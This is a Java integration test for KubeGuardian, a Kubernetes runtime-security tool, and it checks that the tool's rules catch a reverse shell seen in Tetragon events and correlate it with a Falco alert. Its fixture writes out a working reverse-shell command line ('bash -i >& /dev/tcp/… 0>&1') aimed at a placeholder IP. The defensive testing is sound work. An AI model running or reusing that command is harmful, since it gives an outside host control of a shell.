package io.kubeguardian.ingest;

import static io.kubeguardian.ingest.tetragon.Export.SECOND;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.kubeguardian.config.ConfigReader;
import io.kubeguardian.config.KubeGuardianConfig;
import io.kubeguardian.detection.EmbeddedFlink;
import io.kubeguardian.detection.RuleDetectorFactory;
import io.kubeguardian.ingest.falco.Alerts;
import io.kubeguardian.ingest.tetragon.Export;
import io.kubeguardian.kafka.EmbeddedKafka;
import io.kubeguardian.schema.Incident;
import io.kubeguardian.schema.RiskEntity;
import io.kubeguardian.schema.RiskScore;
import io.kubeguardian.schema.Signal;
import io.kubeguardian.schema.TopicSetup;
import io.kubeguardian.schema.Topics;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** From another sensor's output to what KubeGuardian concludes: the ingest, a real broker, the real job with its own rules. */
@SuppressWarnings("try") // clusters that only have to run while a test does
class ForeignSensorsIT {
    /** Our rule on Tetragon's events, then Falco's rule, in one pod. */
    private static final String PATTERN = """
            title: Shell seen by two sensors
            id: two-sensors
            description: A shell under a server, and Falco says so too.
            level: critical
            tags: [attack.t1059.004]
            correlation:
              type: temporal_ordered
              rules:
                - Reverse shell command line
                - Terminal shell in container
              group-by: [k8s.pod.uid]
              timespan: 5m
            """;

    @TempDir
    Path folder;

    private final long now = Instant.now().getEpochSecond();
    private final Export export = new Export(now - 1000);

    @Test
    void aReverseShellInTetragonsExportIsFoundByOurOwnRules() throws Exception {
        try (EmbeddedKafka kafka = broker();
                EmbeddedFlink flink = flink(config(kafka));
                IngestProcess ingest = ingest(kafka)) {
            ingest.port();
            append("tetragon.log", reverseShell());

            List<Signal> signals = TopicReader.records(kafka.clientProperties(), Topics.SIGNALS, Signal.class,
                    all -> rules(all).containsAll(List.of("Shell spawned by a server process",
                            "Reverse shell command line", "Shell connected to an outside address")));

            assertThat(rules(signals)).contains("Shell spawned by a server process", "Reverse shell command line",
                    "Shell connected to an outside address");
            Signal signal = signals.stream().filter(s -> s.getRule().equals("Reverse shell command line")).findFirst()
                    .orElseThrow();
            assertThat(signal.getOrigin()).isEmpty(); // found by us, in what Tetragon saw
            assertThat(signal.getWorkload().getKind()).isEqualTo("Deployment");
            assertThat(signal.getWorkload().getName()).isEqualTo("orders");
            assertThat(signal.getPod().getName()).isEqualTo("orders-7d9-x2x4z");
            assertThat(signal.getPod().getNode()).isEqualTo(Export.NODE);
            assertThat(signal.getContainerId()).isEqualTo(Export.CONTAINER);
            assertThat(signal.getImage()).isEqualTo("docker.io/shop/orders:1.2");
            assertThat(signal.getTechniques()).contains("T1059.004");
            assertThat(signal.getAncestors()).extracting(p -> p.getExe()).startsWith("/srv/orders");
            assertThat(signal.getCompleteness().getComplete()).isTrue();
        }
    }

    @Test
    void anAlertOfFalcoRaisesRiskIsAnAlertOfOursAndEndsAStoryThatOurRulesBegan() throws Exception {
        try (EmbeddedKafka kafka = broker();
                EmbeddedFlink flink = flink(config(kafka));
                IngestProcess ingest = ingest(kafka)) {
            int port = ingest.port();

            // Given a reverse shell that our own rules found
            append("tetragon.log", reverseShell());
            TopicReader.records(kafka.clientProperties(), Topics.SIGNALS, Signal.class,
                    all -> rules(all).contains("Reverse shell command line"));

            // When Falco says the same of the same pod
            ObjectNode alert = Alerts.shell(Instant.ofEpochSecond(now - 1000 + 101));
            Alerts.fields(alert).put("k8s.pod.uid", Export.POD_UID).put("container.id", Export.CONTAINER.substring(0, 12));
            assertThat(post(port, alert)).isEqualTo(200);

            // Then both are one incident of the workload
            List<Incident> incidents = TopicReader.records(
                    kafka.clientProperties(), Topics.INCIDENTS, Incident.class, i -> !i.isEmpty());
            assertThat(incidents).hasSize(1);
            Incident incident = incidents.getFirst();
            assertThat(incident.getTitle()).isEqualTo("Shell seen by two sensors");
            assertThat(incident.getSignals()).extracting(Signal::getOrigin).containsExactly("", "falco");
            assertThat(incident.getWorkload().getName()).isEqualTo("orders");
            assertThat(incident.getSignals().get(1).getContainerId()).isEqualTo(Export.CONTAINER);

            // and a factor of its risk
            List<RiskScore> risk = TopicReader.records(kafka.clientProperties(), Topics.RISK, RiskScore.class,
                    all -> all.stream().anyMatch(ForeignSensorsIT::knowsFalco));
            assertThat(risk.stream().filter(ForeignSensorsIT::knowsFalco).findFirst().orElseThrow().getWorkload().getKind())
                    .isEqualTo("Deployment");

            // and an OCSF alert that says whose it is
            List<JsonNode> alerts = alerts(kafka, "Terminal shell in container");
            assertThat(alerts).hasSize(1);
            assertThat(alerts.getFirst().at("/class_uid").asInt()).isEqualTo(2004);
            assertThat(alerts.getFirst().at("/unmapped/origin").asText()).isEqualTo("falco");
            assertThat(alerts.getFirst().at("/resources/0/name").asText()).isEqualTo("orders");

            // and the job has not put it on the topic a second time
            assertThat(TopicReader.all(kafka.clientProperties(), Topics.SIGNALS, Signal.class))
                    .filteredOn(s -> s.getOrigin().equals("falco")).hasSize(1);
        }
    }

    private static boolean knowsFalco(RiskScore score) {
        return score.getEntity() == RiskEntity.WORKLOAD && score.getFactors().stream().anyMatch(f -> f.getName().equals("Terminal shell in container"));
    }

    /** A server that was there before, a shell under it that is handed to a network peer, and its connection. */
    private String reverseShell() {
        long at = 100 * SECOND;
        Export.Process server = export.process(5 * SECOND, 1100, "/srv/orders", "--port 80").flags("procFS auid");
        Export.Process shell = export.process(at, 1200, "/bin/bash",
                "-c \"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\"").parent(server);
        ObjectNode connect = export.kprobe(at + SECOND / 100, shell, server, "tcp_connect",
                "[{\"sock_arg\": {\"family\": \"AF_INET\", \"type\": \"SOCK_STREAM\", \"protocol\": \"IPPROTO_TCP\","
                        + " \"saddr\": \"10.0.0.7\", \"daddr\": \"203.0.113.9\", \"sport\": 40000, \"dport\": 4444}}]");
        return export.event("process_exec", at, shell, server).toString() + '\n' + connect + '\n'
                + export.event("process_exit", at + SECOND / 10, shell, server) + '\n';
    }

    private static EmbeddedKafka broker() {
        EmbeddedKafka kafka = EmbeddedKafka.start();
        TopicSetup.createMissing(kafka.clientProperties(), 2);
        return kafka;
    }

    private static EmbeddedFlink flink(KubeGuardianConfig config) {
        return EmbeddedFlink.start(config, new RuleDetectorFactory(config.detection().rules()), 0, 1, null);
    }

    private KubeGuardianConfig config(EmbeddedKafka kafka) throws IOException {
        return ConfigReader.read(configFile(kafka), Map.of());
    }

    private IngestProcess ingest(EmbeddedKafka kafka) throws IOException {
        return IngestProcess.start(configFile(kafka));
    }

    private Path configFile(EmbeddedKafka kafka) throws IOException {
        Path pattern = Files.writeString(folder.resolve("pattern.yaml"), PATTERN);
        return Files.writeString(folder.resolve("kubeguardian.yaml"), """
                kafka: {bootstrapServers: "%s"}
                detection: {patterns: ["%s"]}
                ingest:
                  cluster: prod
                  host: 127.0.0.1
                  port: 0
                  managementPort: -1
                  stateFile: "%s"
                  tetragonFiles: ["%s"]
                """.formatted(kafka.bootstrapServers(), pattern, folder.resolve("state.json"), folder.resolve("tetragon.log")));
    }

    private void append(String name, String text) throws Exception {
        Files.writeString(folder.resolve(name), text, StandardOpenOption.CREATE, StandardOpenOption.APPEND);
    }

    private static int post(int port, ObjectNode alert) throws Exception {
        try (HttpClient http = HttpClient.newHttpClient()) {
            return http.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + "/falco"))
                    .POST(HttpRequest.BodyPublishers.ofByteArray(Alerts.bytes(alert))).build(),
                    HttpResponse.BodyHandlers.discarding()).statusCode();
        }
    }

    private static List<String> rules(List<Signal> signals) {
        return signals.stream().map(Signal::getRule).toList();
    }

    private static List<JsonNode> alerts(EmbeddedKafka kafka, String rule) {
        return TopicReader.values(kafka.clientProperties(), Topics.ALERTS,
                values -> values.stream().anyMatch(v -> new String(v, StandardCharsets.UTF_8).contains(rule))).stream()
                .map(ForeignSensorsIT::json).filter(alert -> alert.at("/unmapped/rule").asText().equals(rule)).toList();
    }

    private static JsonNode json(byte[] value) {
        try {
            return new ObjectMapper().readTree(value);
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }
}
